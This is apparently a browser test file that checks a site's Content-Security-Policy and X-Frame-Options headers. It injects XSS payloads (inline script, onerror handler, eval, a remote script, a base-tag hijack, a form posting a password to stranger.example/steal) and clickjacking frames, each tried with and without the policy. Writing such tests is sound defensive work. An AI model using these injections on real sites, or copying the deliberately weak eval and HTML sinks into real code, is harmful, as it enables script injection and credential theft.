// Attacks as they would come from markup that a stranger managed to put into a page. Each is tried twice: with the
// headers that Hosting answers, where the browser stops it, and without the policy, where it succeeds.
import type { Page } from 'playwright/test';
import { expect, test } from '../support/fixtures';

const STRANGER = 'http://stranger.example';
const LOADED = { contentType: 'text/html', body: '<title>Stranger</title>' };
/** What the attacker's code does if it runs. */
const MARK = "document.documentElement.dataset.hacked = 'yes';";

/** Puts markup into the page on its way to the browser; takes away the headers that are named. */
async function poison(page: Page, path: string, markup: string, without: string[]): Promise<void> {
  await page.route(path, async (route) => {
    const response = await route.fetch();
    const headers = Object.fromEntries(
      Object.entries(response.headers()).filter(([name]) => !without.includes(name)),
    );
    const body = (await response.text()).replace('<head>', () => `<head>${markup}`);
    await route.fulfill({ response, headers, body });
  });
}

/** A stranger's server; tells whom it was asked for what. */
async function stranger(page: Page, body = ''): Promise<string[]> {
  const asked: string[] = [];
  await page.route(`${STRANGER}/**`, async (route) => {
    asked.push(`${route.request().method()} ${route.request().url()}`);
    await route.fulfill({
      ...LOADED,
      body,
      contentType: body.startsWith('<') ? 'text/html' : 'text/javascript',
    });
  });
  return asked;
}

const hacked = (page: Page) =>
  page.evaluate(() => document.documentElement.dataset.hacked ?? 'no').catch(() => 'away');

interface Attack {
  name: string;
  markup: string;
  /** The line of the violation. */
  stopped: string;
  /** What the page itself does for the attack: a visitor's click, code with a weak spot. */
  act?: (page: Page) => Promise<void>;
  /** Answers "yes" once the attack has succeeded. */
  outcome: (page: Page, asked: string[]) => Promise<string>;
}

const attacks: Attack[] = [
  {
    name: 'an inline script',
    markup: `<script>${MARK}</script>`,
    stopped: 'script-src-elem inline',
    outcome: hacked,
  },
  {
    name: 'an inline event handler',
    markup: `<link rel="stylesheet" href="/nothing.css" onerror="${MARK}">`,
    stopped: 'script-src-attr inline',
    outcome: hacked,
  },
  {
    name: 'eval, in a script of our own',
    markup: '<script src="/assets/weak.js"></script>',
    stopped: 'require-trusted-types-for trusted-types-sink',
    outcome: hacked,
  },
  {
    name: 'markup written by a script of our own',
    markup: '<script src="/assets/weaker.js"></script>',
    stopped: 'require-trusted-types-for trusted-types-sink',
    outcome: hacked,
  },
  {
    name: 'a script from a stranger',
    markup: `<script src="${STRANGER}/evil.js"></script>`,
    stopped: `script-src-elem ${STRANGER}/evil.js`,
    outcome: hacked,
  },
  {
    name: '<base>, which would lead every relative address to a stranger',
    markup: `<base href="${STRANGER}/">`,
    stopped: `base-uri ${STRANGER}/`,
    outcome: async (page) =>
      (await page.evaluate(() => document.baseURI)).startsWith(STRANGER) ? 'yes' : 'no',
  },
  {
    name: 'a form that sends a password to a stranger',
    markup: '',
    stopped: `form-action ${STRANGER}/steal`,
    act: async (page) => {
      await page.evaluate((address) => {
        const form = document.createElement('form');
        form.method = 'post';
        form.action = address;
        document.body.append(form);
        form.submit();
      }, `${STRANGER}/steal`);
    },
    outcome: async (_, asked) => (asked.some((line) => line.startsWith('POST')) ? 'yes' : 'no'),
  },
];

async function weakScripts(page: Page): Promise<void> {
  const script = (body: string) => ({ contentType: 'text/javascript', body });
  await page.route('/assets/weak.js', (route) =>
    route.fulfill(script(`eval(${JSON.stringify(MARK)})`)),
  );
  const image = `<img src="/nothing.png" onerror="${MARK}">`;
  await page.route('/assets/weaker.js', (route) =>
    route.fulfill(
      script(`document.documentElement.insertAdjacentHTML('beforeend', ${JSON.stringify(image)})`),
    ),
  );
}

for (const { name, markup, stopped, act, outcome } of attacks)
  test(`F62 ${name} is stopped, and would succeed without the policy`, async ({ page, watch }) => {
    watch.allow(/./);
    await weakScripts(page);
    const asked = await stranger(page, MARK);
    // First without the policy: a browser may still report violations after its page has gone.
    await poison(page, '/about', markup, ['content-security-policy']);
    await page.goto('/about');
    await act?.(page);
    await expect.poll(() => outcome(page, asked)).toBe('yes');
    expect(watch.violations).toEqual([]);

    asked.length = 0;
    await poison(page, '/about', markup, []);
    await page.goto('/about');
    await act?.(page);
    await expect.poll(() => watch.violations).toContain(stopped);
    // The page has run everything that it had, and still nothing has happened.
    await page.waitForLoadState('load');
    expect(await outcome(page, asked)).toBe('no');
    expect(asked).toEqual([]);
  });

test('F61 framing the log-in is stopped by each of two headers, and would succeed without both', async ({
  page,
  baseURL,
  watch,
}) => {
  watch.allow(/./);
  const address = new URL('/login', baseURL).href;
  await stranger(page, `<title>Stranger</title><iframe src="${address}"></iframe>`);
  const heading = page.frameLocator('iframe').getByRole('heading', { name: 'Login' });
  for (const without of ['x-frame-options', 'content-security-policy']) {
    await poison(page, address, '', [without]);
    const refused = page.waitForEvent('requestfailed');
    await page.goto(`${STRANGER}/`);
    const request = await refused;
    expect(request.url()).toBe(address);
    expect(request.failure()?.errorText).toBe('net::ERR_BLOCKED_BY_RESPONSE');
    await expect.poll(() => page.frames()[1]?.url()).toBe('chrome-error://chromewebdata/');
    await expect(heading).toHaveCount(0);
  }
  await poison(page, address, '', ['x-frame-options', 'content-security-policy']);
  await page.goto(`${STRANGER}/`);
  await expect(heading).toBeVisible();
});
